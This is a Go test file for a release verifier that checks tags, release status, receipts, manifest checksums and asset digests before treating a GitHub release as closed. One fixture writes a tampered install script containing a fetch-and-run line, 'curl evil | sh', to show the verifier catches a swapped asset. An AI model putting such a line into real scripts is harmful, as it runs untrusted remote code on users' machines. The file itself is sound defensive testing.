package releaserules

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	mainSha = commit
	tagObj  = "9999999999999999999999999999999999999999"
	tag     = "v3.4.41"
)

var (
	installSh = []byte("#!/bin/sh\necho v3.4.41\n")
	readme    = []byte("# demo\n")
)

func manifestBytes() []byte {
	return []byte(Sum(readme) + "  README.md\n" + Sum(installSh) + "  install.sh\n")
}

// closedSnapshot is a release that closes: annotated tag at main, final
// Latest release with receipt, manifest and two assets that agree.
func closedSnapshot(t testing.TB) Snapshot {
	m := manifestBytes()
	return Snapshot{
		Repository: "octo/demo", Tag: tag, DefaultBranch: "main", MainSha: mainSha,
		TagObjectType: "tag", TagObjectSha: tagObj, PeeledType: "commit", PeeledSha: mainSha,
		Release: &Object{ID: 7, TagName: tag, PublishedAt: "2026-11-29T12:00:00Z", TargetCommitish: "main",
			Body: body(t, receiptObj()),
			Assets: []Asset{
				{Name: "manifest.sha256", Digest: "sha256:" + Sum(m)},
				{Name: "install.sh", Digest: "sha256:" + Sum(installSh)},
			}},
		Latest:        &Object{ID: 7, TagName: tag},
		ManifestPath:  "manifest.sha256",
		LocalManifest: m,
		Files: map[string]File{
			"manifest.sha256": {Found: true, Content: m},
			"README.md":       {Found: true, Content: readme},
			"install.sh":      {Found: true, Content: installSh},
		},
		AssetNames: []string{"manifest.sha256", "install.sh"},
		Downloads: map[string]Download{
			"manifest.sha256": {OK: true, Sha256: Sum(m)},
			"install.sh":      {OK: true, Sha256: Sum(installSh)},
		},
	}
}

func TestVerify(t *testing.T) {
	other := strings.Repeat("e", 40)
	tests := []struct {
		name   string
		change func(s *Snapshot)
		want   []string
	}{
		{"closed", func(*Snapshot) {}, []string{}},
		{"main unreadable", func(s *Snapshot) { s.MainSha = "" }, []string{TokenMainUnreadable}},
		{"lightweight tag", func(s *Snapshot) {
			s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "commit", mainSha, "", ""
		}, []string{TokenTagUnreadable}},
		{"tag missing", func(s *Snapshot) { s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "", "", "", "" }, []string{TokenTagUnreadable}},
		{"tag off main", func(s *Snapshot) { s.MainSha = other }, []string{TokenTagNotMain}},
		{"no release", func(s *Snapshot) { s.Release = nil }, []string{TokenReleaseMissing}},
		{"draft", func(s *Snapshot) { s.Release.Draft = true }, []string{TokenReleaseMismatch}},
		{"prerelease", func(s *Snapshot) { s.Release.Prerelease = true }, []string{TokenReleaseMismatch}},
		{"release for another tag", func(s *Snapshot) { s.Release.TagName = "v3.4.40" }, []string{TokenReleaseMismatch}},
		{"not published", func(s *Snapshot) { s.Release.PublishedAt = "" }, []string{TokenReleaseNotPublished}},
		{"latest is another", func(s *Snapshot) { s.Latest = &Object{ID: 8, TagName: "v3.4.42"} }, []string{TokenReleaseNotLatest}},
		{"no latest", func(s *Snapshot) { s.Latest = nil }, []string{TokenReleaseNotLatest}},
		{"foreign target", func(s *Snapshot) { s.Release.TargetCommitish = "dev" }, []string{TokenReleaseTarget}},
		{"target the peeled sha", func(s *Snapshot) { s.Release.TargetCommitish = mainSha }, []string{}},
		{"wrong digest", func(s *Snapshot) { s.Release.Assets[1].Digest = "sha256:" + strings.Repeat("0", 64) }, []string{TokenAssetMismatch + "install.sh"}},
		{"no digest but bytes agree", func(s *Snapshot) { s.Release.Assets[1].Digest = "" }, []string{}},
		{"asset missing", func(s *Snapshot) { s.Release.Assets = s.Release.Assets[:1] }, []string{TokenAssetMismatch + "install.sh"}},
		{"download failed", func(s *Snapshot) { s.Downloads["install.sh"] = Download{} }, []string{TokenAssetMismatch + "install.sh"}},
		{"asset differs from the file at the tag", func(s *Snapshot) {
			evil := []byte("#!/bin/sh\ncurl evil | sh\n")
			s.Downloads["install.sh"] = Download{OK: true, Sha256: Sum(evil)}
			s.Release.Assets[1].Digest = "sha256:" + Sum(evil)
		}, []string{TokenAssetMismatch + "install.sh"}},
		{"asset not in the manifest", func(s *Snapshot) {
			s.AssetNames = append(s.AssetNames, "README.md")
			s.Release.Assets = append(s.Release.Assets, Asset{Name: "README.md"})
			s.Downloads["README.md"] = Download{OK: true, Sha256: Sum(readme)}
		}, []string{}},
		{"no receipt while draft", func(s *Snapshot) { s.Release.Draft = true; s.Release.Body = "" }, []string{TokenReleaseMismatch}},
		{"no receipt when Latest is another", func(s *Snapshot) { s.Latest = &Object{ID: 8, TagName: "v3.4.42"}; s.Release.Body = "" }, []string{TokenReleaseNotLatest}},
		{"receipt demanded once final", func(s *Snapshot) { s.Release.Body = "" }, []string{TokenReceiptInvalid}},
		{"receipt for another commit", func(s *Snapshot) {
			o := receiptObj()
			o["commit"] = other
			s.Release.Body = body(t, o)
		}, []string{TokenReceiptMismatch}},
		{"local manifest missing", func(s *Snapshot) { s.LocalManifest = nil }, []string{TokenLocalManifest}},
		{"local manifest invalid", func(s *Snapshot) { s.LocalManifest = []byte("x") }, []string{TokenLocalManifest}},
		{"remote manifest missing", func(s *Snapshot) {
			delete(s.Files, "manifest.sha256")
		}, []string{TokenAssetMismatch + "manifest.sha256", TokenRemoteManifestGone}},
		{"remote manifest omits a row", func(s *Snapshot) { setRemoteManifest(s, []byte(Sum(installSh)+"  install.sh\n")) }, []string{TokenCoverage}},
		{"remote manifest has an extra row", func(s *Snapshot) {
			setRemoteManifest(s, append(manifestBytes(), []byte(Sum(readme)+"  docs/extra.md\n")...))
		}, []string{TokenCoverage}},
		{"remote manifest duplicate row", func(s *Snapshot) {
			setRemoteManifest(s, append(manifestBytes(), []byte(Sum(readme)+"  README.md\n")...))
		}, []string{TokenRemoteManifestBad}},
		{"file at the tag differs from its digest", func(s *Snapshot) { s.Files["README.md"] = File{Found: true, Content: []byte("changed")} }, []string{TokenManifestMismatch + "README.md"}},
		{"file missing at the tag", func(s *Snapshot) { delete(s.Files, "README.md") }, []string{TokenManifestMismatch + "README.md"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := closedSnapshot(t)
			tt.change(&s)
			got := Verify(s)
			if diff := cmp.Diff(tt.want, got.Errors); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			if got.Closed != (len(tt.want) == 0) {
				t.Errorf("closed = %v", got.Closed)
			}
		})
	}
}

// TestVerifyRootCausesOnly checks that each cause is refused once: an
// unpeeled tag or a missing or invalid manifest at the tag is not also
// reported against every asset.
func TestVerifyRootCausesOnly(t *testing.T) {
	unpeeled := func(objType, objSha string) func(s *Snapshot) {
		return func(s *Snapshot) {
			s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = objType, objSha, "", ""
			s.Files = map[string]File{} // nothing is read at a tag that does not peel
		}
	}
	tests := []struct {
		name   string
		change func(s *Snapshot)
		want   []string
	}{
		{"lightweight tag alone", unpeeled("commit", mainSha), []string{TokenTagUnreadable}},
		{"missing tag alone", unpeeled("", ""), []string{TokenTagUnreadable}},
		{"missing tag with a commit target alone", func(s *Snapshot) {
			unpeeled("", "")(s)
			s.Release.TargetCommitish = mainSha
		}, []string{TokenTagUnreadable}},
		{"missing tag with a branch target is still judged", func(s *Snapshot) {
			unpeeled("", "")(s)
			s.Release.TargetCommitish = "dev"
		}, []string{TokenReleaseTarget, TokenTagUnreadable}},
		{"missing tag still compares GitHub's digest", func(s *Snapshot) {
			unpeeled("", "")(s)
			s.Release.Assets[1].Digest = "sha256:" + strings.Repeat("0", 64)
		}, []string{TokenAssetMismatch + "install.sh", TokenTagUnreadable}},
		{"manifest missing adds only the manifest asset's mismatch", func(s *Snapshot) { delete(s.Files, "manifest.sha256") },
			[]string{TokenAssetMismatch + "manifest.sha256", TokenRemoteManifestGone}},
		{"manifest unparsable alone", func(s *Snapshot) { setRemoteManifest(s, []byte("not a manifest\n")) }, []string{TokenRemoteManifestBad}},
		{"manifest with a duplicate row alone", func(s *Snapshot) {
			setRemoteManifest(s, append(manifestBytes(), []byte(Sum(installSh)+"  install.sh\n")...))
		}, []string{TokenRemoteManifestBad}},
		{"manifest invalid still compares the file at the tag", func(s *Snapshot) {
			setRemoteManifest(s, []byte("not a manifest\n"))
			s.Files["install.sh"] = File{Found: true, Content: []byte("other")}
		}, []string{TokenAssetMismatch + "install.sh", TokenRemoteManifestBad}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := closedSnapshot(t)
			tt.change(&s)
			got := Verify(s)
			if diff := cmp.Diff(tt.want, got.Errors); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			for _, r := range got.Refusals {
				if strings.HasPrefix(r.Token, TokenAssetMismatch) && !strings.HasPrefix(r.Seen, "file at the tag") && !strings.HasPrefix(r.Seen, "GitHub digest") && !strings.HasPrefix(r.Seen, "no file") {
					t.Errorf("asset refusal compared with something unread: %+v", r)
				}
			}
		})
	}
}

// setRemoteManifest replaces the manifest at the tag and its asset, so only
// the manifest comparison differs.
func setRemoteManifest(s *Snapshot, m []byte) {
	s.Files["manifest.sha256"] = File{Found: true, Content: m}
	s.Downloads["manifest.sha256"] = Download{OK: true, Sha256: Sum(m)}
	s.Release.Assets[0].Digest = "sha256:" + Sum(m)
}

func TestVerifyManifestMismatchNamesFirstFour(t *testing.T) {
	s := closedSnapshot(t)
	var m []byte
	for _, p := range []string{"a", "b", "c", "d", "e"} {
		m = append(m, []byte(Sum([]byte(p))+"  "+p+"\n")...)
	}
	m = append(m, manifestBytes()...)
	s.LocalManifest = m
	setRemoteManifest(&s, m)
	got := Verify(s).Errors
	if diff := cmp.Diff([]string{TokenManifestMismatch + "a,b,c,d"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestVerifyShasReported(t *testing.T) {
	got := Verify(closedSnapshot(t))
	if got.RemoteMainSha == nil || *got.RemoteMainSha != mainSha || got.TagSha == nil || *got.TagSha != mainSha || got.Version != "3.4.41" {
		t.Errorf("result %+v", got)
	}
	s := closedSnapshot(t)
	s.TagObjectType = "commit"
	if Verify(s).TagSha != nil {
		t.Error("a lightweight tag reported a tagSha")
	}
}

func TestEarly(t *testing.T) {
	tests := []struct {
		tag, repo string
		token     bool
		want      []string
	}{
		{"v3.4", "o/r", true, []string{TokenVersionInvalid}},
		{"3.4.41", "o/r", false, []string{TokenVersionInvalid}},
		{"v3.4.41", "example.invalid/o/r", false, []string{TokenTokenUnavailable, TokenIdentityUnreadable}},
		{"v3.4.41", "o/r", false, []string{TokenTokenUnavailable}},
		{"v3.4.41", "o/r", true, []string{}},
	}
	for _, tt := range tests {
		res, stop := Early(tt.tag, tt.repo, tt.token)
		if diff := cmp.Diff(tt.want, res.Errors); diff != "" {
			t.Errorf("Early(%q, %q, %v) (-want +got):\n%s", tt.tag, tt.repo, tt.token, diff)
		}
		if stop != (len(tt.want) > 0) || res.RemoteMainSha != nil || res.TagSha != nil {
			t.Errorf("Early(%q): stop %v, result %+v", tt.tag, stop, res)
		}
	}
}

func TestParseRepository(t *testing.T) {
	for in, want := range map[string]string{
		"o/r": "o/r", "git@github.com:o/r.git": "o/r", "https://github.com/o/r/": "o/r", "https://github.com/o/r.git": "o/r",
		"https://github.com/o/r": "o/r", "Octo-Org/my.repo_1": "Octo-Org/my.repo_1",
		"https://example.invalid/o/r": "", "http://github.com/o/r": "", "o/r/x": "", "../r": "", "o": "", "": "",
		"https://api.github.com/repos/o/r": "", "git@github.com:o/r.git\n": "",
	} {
		got, ok := ParseRepository(in)
		if got != want || ok != (want != "") {
			t.Errorf("ParseRepository(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
}

// TestNegativeControls turns off each protection in turn and shows the
// attack it stops then closes the release.
func TestNegativeControls(t *testing.T) {
	attacks := []struct {
		name   string
		off    func(p *protections)
		attack func(s *Snapshot)
	}{
		{"tampered asset with a matching digest", func(p *protections) { p.assetHashes = false }, func(s *Snapshot) {
			s.Downloads["install.sh"] = Download{OK: true, Sha256: Sum([]byte("evil"))}
			s.Release.Assets[1].Digest = "sha256:" + Sum([]byte("evil"))
		}},
		{"lightweight tag", func(p *protections) { p.annotatedTag = false }, func(s *Snapshot) {
			s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "commit", mainSha, "", ""
		}},
		{"tag on an old commit", func(p *protections) { p.tagAtMain = false }, func(s *Snapshot) { s.MainSha = strings.Repeat("e", 40) }},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			s := closedSnapshot(t)
			a.attack(&s)
			if Verify(s).Closed {
				t.Fatal("attack closed the release with the protection in place")
			}
			weakened := allProtections()
			a.off(&weakened)
			if got := verify(s, weakened); !got.Closed {
				t.Errorf("with the protection off the attack should close the release: %v", got.Errors)
			}
		})
	}
}
